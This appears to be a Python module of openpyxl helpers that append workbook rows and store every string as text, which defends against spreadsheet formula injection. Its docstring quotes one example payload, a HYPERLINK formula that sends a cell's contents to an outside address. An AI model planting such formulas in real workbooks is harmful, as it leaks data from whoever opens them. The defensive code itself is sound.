"""Writing workbooks: every workbook the service produces appends its rows here.

A spreadsheet program runs a text cell that starts with `=` as a formula, so a name such as
`=HYPERLINK("http://…?d="&A1,"Klik")` typed into a plan or a budget would become a live link
in the workbook the head of office opens. Text is stored as text, always; numbers, dates and
empty cells keep their types.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

from openpyxl.cell.cell import Cell, WriteOnlyCell
from openpyxl.worksheet._write_only import WriteOnlyWorksheet
from openpyxl.worksheet.worksheet import Worksheet


def tambah_baris(lembar: Worksheet, nilai: Iterable[Any]) -> tuple[Cell, ...]:
    """Append one row to `lembar`, every `str` as a text cell; the row's cells."""
    lembar.append(list(nilai))
    sel: tuple[Cell, ...] = lembar[lembar.max_row]
    for c in sel:
        if isinstance(c.value, str):
            c.data_type = "s"
    return sel


def tambah_baris_aliran(lembar: WriteOnlyWorksheet, nilai: Iterable[Any]) -> None:
    """`tambah_baris` for a write-only sheet (a workbook streamed row by row in constant
    memory): every `str` as a text cell, never a formula."""
    sel: list[Any] = []
    for v in nilai:
        if isinstance(v, str):
            c = WriteOnlyCell(lembar, v)
            c.data_type = "s"
            sel.append(c)
        else:
            sel.append(v)
    lembar.append(sel)
